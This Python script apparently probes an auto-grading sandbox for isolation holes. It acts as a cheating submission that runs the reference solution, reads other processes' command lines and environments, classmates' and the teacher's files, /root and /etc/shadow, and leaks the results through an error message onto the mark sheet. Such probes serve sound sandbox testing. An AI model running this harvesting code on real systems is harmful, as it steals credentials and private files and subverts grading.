# Reads: the lesson's reference solution (run it for full marks), the
# classmates' files (from the marker's command line in /proc), the teacher's
# home and environment. Anything it gets it puts in an error message, which
# would reach the mark sheet.
import glob
import os

from bugbot import *

found = []
for path in ["@@REFERENCE@@"]:
    try:
        source = open(path).read()
        exec(compile(source, path, "exec"))
        found.append("reference")
    except OSError:
        pass
for pid in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{pid}/cmdline").read().replace("\0", " "))
        found.append(open(f"/proc/{pid}/environ").read())
    except OSError:
        pass
for pattern in ["@@CLASSMATES@@/*", "@@TEACHER_HOME@@/*", "/root/*", "/root/.*", "/home/*/*", "/etc/shadow",
                "/tmp/*/*", "/tmp/*/*/*"]:
    for path in glob.glob(pattern):
        try:
            found.append(open(path, errors="replace").read(2000))
        except OSError:
            pass
found.append(repr(dict(os.environ)))
connect()
text = " ".join(found)
if "@@SECRET@@" in text or "@@TOKEN@@" in text or "reference" in found:
    raise RuntimeError("LEAK " + text[:3000])
